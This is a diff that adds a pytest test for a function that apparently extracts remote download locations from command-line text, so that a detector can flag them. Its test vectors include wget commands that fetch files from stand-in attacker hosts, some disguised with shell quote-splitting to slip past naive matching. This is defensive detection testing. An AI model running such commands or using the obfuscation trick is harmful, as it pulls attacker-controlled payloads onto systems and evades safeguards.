@@ -158,6 +158,21 @@ def test_an_ipv4_address_has_four_parts_of_at_most_three_digits(text: str, want:
     assert remote_location(text) == want
 
 
+@pytest.mark.parametrize(("text", "want"), [
+    # only an http(s) address can be loopback: an s3:// "host" is a bucket on the configured endpoint
+    ("--model=s3://localhost/m.onnx", "s3://localhost/m.onnx"),
+    ("--model=grpc://127.0.0.1:9000/m", "grpc://127.0.0.1:9000/m"),
+    ("--health=https://127.0.0.1:8443/v2/health", None),
+    # a loopback address first does not hide the location after it
+    ("curl -sf http://localhost:8080/ready && wget -O /tmp/m s3://attacker/m", "s3://attacker/m"),
+    # shown as the shell will fetch it
+    ('wget -O /tmp/m ev""il.example.com/m', "evil.example.com/m"),
+    ("wget -O /tmp/m ev\\il.example.com/m", "evil.example.com/m"),
+])
+def test_remote_uri_vectors(text: str, want: str | None) -> None:
+    assert remote_location(text) == want
+
+
 # --- volumes a user writes -------------------------------------------------------------------
 
 @pytest.mark.parametrize(("volume", "kinds"), [
